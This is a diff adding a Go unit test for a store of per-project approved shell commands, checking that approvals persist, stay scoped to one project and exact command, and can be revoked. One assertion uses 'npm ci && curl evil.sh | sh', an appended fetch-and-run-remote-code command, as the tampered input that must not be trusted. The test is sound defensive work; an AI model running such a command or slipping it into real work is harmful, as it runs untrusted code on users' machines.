@@ -0,0 +1,46 @@
+package trust
+
+import (
+	"path/filepath"
+	"testing"
+)
+
+func TestAllowAndRevoke(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "grove", "trusted.json")
+
+	s, err := Load(path)
+	if err != nil {
+		t.Fatal("Load of a missing store failed:", err)
+	}
+	if s.Trusted("/code/app", "npm ci") {
+		t.Fatal("nothing should be trusted in an empty store")
+	}
+	if !s.Allow("/code/app", "npm ci") {
+		t.Error("Allow should report a change")
+	}
+	if s.Allow("/code/app", "npm ci") {
+		t.Error("allowing twice should not change the store")
+	}
+	if err := Save(path, s); err != nil {
+		t.Fatal("Save failed:", err)
+	}
+
+	loaded, err := Load(path)
+	if err != nil {
+		t.Fatal("Load failed:", err)
+	}
+	if !loaded.Trusted("/code/app", "npm ci") {
+		t.Error("approved command should be trusted after a reload")
+	}
+	// Approvals are per project and per exact command.
+	if loaded.Trusted("/code/other", "npm ci") {
+		t.Error("approval leaked into another project")
+	}
+	if loaded.Trusted("/code/app", "npm ci && curl evil.sh | sh") {
+		t.Error("a changed command must not be trusted")
+	}
+
+	if !loaded.Revoke("/code/app") || loaded.Trusted("/code/app", "npm ci") {
+		t.Error("Revoke should forget the project's approvals")
+	}
+}